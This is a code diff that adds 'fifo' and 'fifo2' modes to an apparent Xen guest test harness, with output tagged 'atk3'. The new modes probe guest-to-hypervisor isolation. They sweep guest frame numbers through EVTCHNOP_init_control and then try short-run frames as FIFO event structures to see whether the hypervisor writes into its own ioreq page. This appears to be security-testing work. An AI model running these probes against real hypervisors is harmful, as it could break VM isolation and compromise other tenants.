@@ -17,6 +17,11 @@
  *   mode=uart (HVM): every size at every UART offset and across 0x3ff,
  *     DLAB, loopback and FIFO overrun, IER toggling storms, and an output
  *     flood of secs=S seconds.
+ *   mode=fifo (HVM): EVTCHNOP_init_control on one of its own gfns, then on
+ *     every number below limit=N: which frames does the hv take?
+ *   mode=fifo2 (HVM): the frames found so, those that are not RAM runs as the
+ *     FIFO control block and event array, a timer event while vcpu 0
+ *     waits on the UART: does the hv write into the ioreq page?
  *   mode=lapic (HVM): the PIC's INTR against vcpu 0's local APIC: as
  *     booted, software-enabled with LINT0 masked, fixed, ExtINT, and
  *     software-disabled (which masks LINT0): when is an 8259 interrupt
@@ -572,6 +577,126 @@ static void mode_lapic(void)
     check("hypercalls still answered", HYPERVISOR_xen_version(XENVER_version, NULL) > 0, 0);
 }
 
+/* ====================== mode=fifo ====================== */
+
+/* EVTCHNOP_init_control names the control block by gfn (Xen's
+ * map_guest_page: a translated guest's gfn goes through its p2m). */
+static uint8_t fifo_ctl[4096] __attribute__((aligned(4096)));
+
+static long fifo_init(uint64_t gfn, uint32_t offset)
+{
+    evtchn_init_control_t ic = { .control_gfn = gfn, .offset = offset, .vcpu = 0 };
+    return HYPERVISOR_event_channel_op(EVTCHNOP_init_control, &ic);
+}
+
+static long ev_reset(void)
+{
+    return HYPERVISOR_event_channel_op(EVTCHNOP_reset, &(evtchn_reset_t){ .dom = DOMID_SELF });
+}
+
+static void mode_fifo(start_info_t *si)
+{
+    unsigned int limit = num_arg(si, "limit", 0x40000);
+    uint64_t gfn = xl_pvh_virt_to_phys(fifo_ctl) >> 12;
+    uint64_t ram_pages = xl_pvh_free_end_pfn; /* the top of RAM (pfns), as the kit saw it */
+    say("atk3 fifo: control page gfn %#lx, RAM pfns below %#lx\n", (unsigned long)gfn,
+        (unsigned long)ram_pages);
+    raw_console = 1; /* the resets below close the PV console's port */
+    long rc = ev_reset();
+    rc = fifo_init(gfn, 0);
+    say("atk3 fifo: init_control on a gfn of ours (%#lx) -> %ld\n", (unsigned long)gfn, rc);
+    check("EVTCHNOP_init_control on one of our own gfns works (Xen: 0)", rc == 0, rc);
+    ev_reset();
+    /* Every number below limit as a "gfn": which does the hv take? */
+    unsigned long ok = 0, beyond = 0, runs = 0;
+    uint64_t run_s = 0, prev = ~0ULL;
+    char line[200];
+    int n = 0;
+    for (uint64_t g = 0; g < limit; g++) {
+        if (fifo_init(g, 0) != 0)
+            continue;
+        ev_reset();
+        ok++;
+        if (g >= ram_pages && g < 0xf0000)
+            beyond++;
+        if (g != prev + 1) {
+            if (prev != ~0ULL && runs < 12)
+                n += xl_snprintf(line + n, sizeof(line) - (size_t)n, " %#lx-%#lx",
+                                 (unsigned long)run_s, (unsigned long)prev);
+            runs++;
+            run_s = g;
+        }
+        prev = g;
+    }
+    if (prev != ~0ULL && runs <= 12)
+        n += xl_snprintf(line + n, sizeof(line) - (size_t)n, " %#lx-%#lx", (unsigned long)run_s,
+                         (unsigned long)prev);
+    line[n] = 0;
+    say("atk3 fifo: init_control accepted %lu of %#x numbers as the control block, %lu above our RAM; %lu runs:%s\n",
+        ok, limit, beyond, runs, line);
+    check("no number above our RAM taken as a control block frame (machine frames named)",
+          beyond == 0, (long)beyond);
+}
+
+/* mode=fifo2: the frames the hv takes by number that are short runs (not
+ * the RAM's 512-frame runs) are tried as the FIFO control block (offset
+ * 8) and event array: VIRQ_TIMER on port p, priority 3, fires while vcpu
+ * 0 waits on the UART. If the frame is the ioreq page, event word p is
+ * slot 0's word p (p = 1: the address's high half, rewritten by every
+ * request, so the port links again each time), ready (offset 8) is the
+ * slot's data word (0 after every request: each link marks the upcall
+ * and wakes the vcpu) and head[3] (offset 8 + 8 + 12 = 28) is the word
+ * holding the slot's state byte: the hv itself writes state 0 into a
+ * request in flight. */
+static void mode_fifo2(start_info_t *si)
+{
+    unsigned int limit = num_arg(si, "limit", 0x40000);
+    raw_console = 1;
+    ev_reset();
+    uint64_t cand[32];
+    unsigned int nc = 0;
+    uint64_t run_s = 0, last = 0;
+    int in_run = 0;
+    for (uint64_t g = 0; g <= limit && nc < 32; g++) {
+        int owned = g < limit && fifo_init(g, 0) == 0;
+        if (owned)
+            ev_reset();
+        if (owned && in_run && g == last + 1) {
+            last = g;
+            continue;
+        }
+        if (in_run && last - run_s + 1 < 16) /* a short run ended: candidates */
+            for (uint64_t c = run_s; c <= last && nc < 32; c++)
+                cand[nc++] = c;
+        in_run = owned;
+        run_s = last = g;
+    }
+    say("atk3 fifo2: %u candidate frames in short runs\n", nc);
+    for (unsigned int i = 0; i < nc; i++) {
+        ev_reset();
+        if (fifo_init(cand[i], 8))
+            continue;
+        evtchn_expand_array_t ea = { .array_gfn = cand[i] };
+        long rc = HYPERVISOR_event_channel_op(EVTCHNOP_expand_array, &ea);
+        evtchn_bind_virq_t bv = { .virq = VIRQ_TIMER, .vcpu = 0 };
+        long rc2 = HYPERVISOR_event_channel_op(EVTCHNOP_bind_virq, &bv);
+        evtchn_set_priority_t sp = { .port = bv.port, .priority = 3 };
+        long rc3 = HYPERVISOR_event_channel_op(EVTCHNOP_set_priority, &sp);
+        say("atk3 fifo2: frame %#lx as control block and event array (%ld), VIRQ_TIMER port %u (%ld), priority 3 (%ld)\n",
+            (unsigned long)cand[i], rc, bv.port, rc2, rc3);
+        if (rc || rc2 || rc3)
+            continue;
+        for (int k = 0; k < 300; k++) {
+            HYPERVISOR_set_timer_op(now_ns() + 50000 + (uint64_t)(k % 11) * 20000);
+            for (int j = 0; j < 6; j++)
+                (void)inb(COM1 + 5);
+        }
+        say("atk3 fifo2: frame %#lx: survived 1800 UART reads\n", (unsigned long)cand[i]);
+    }
+    ev_reset();
+    say("atk3 fifo2: no candidate frame reached the ioreq page\n");
+}
+
 /* ====================== mode=uart ====================== */
 
 static void mode_uart(start_info_t *si)
@@ -773,6 +898,10 @@ int guest_main(start_info_t *si)
         mode_pic(si);
     } else if (!strcmp(mode, "uart")) {
         mode_uart(si);
+    } else if (!strcmp(mode, "fifo")) {
+        mode_fifo(si);
+    } else if (!strcmp(mode, "fifo2")) {
+        mode_fifo2(si);
     } else if (!strcmp(mode, "lapic")) {
         mode_lapic();
     } else if (!strcmp(mode, "spin")) {
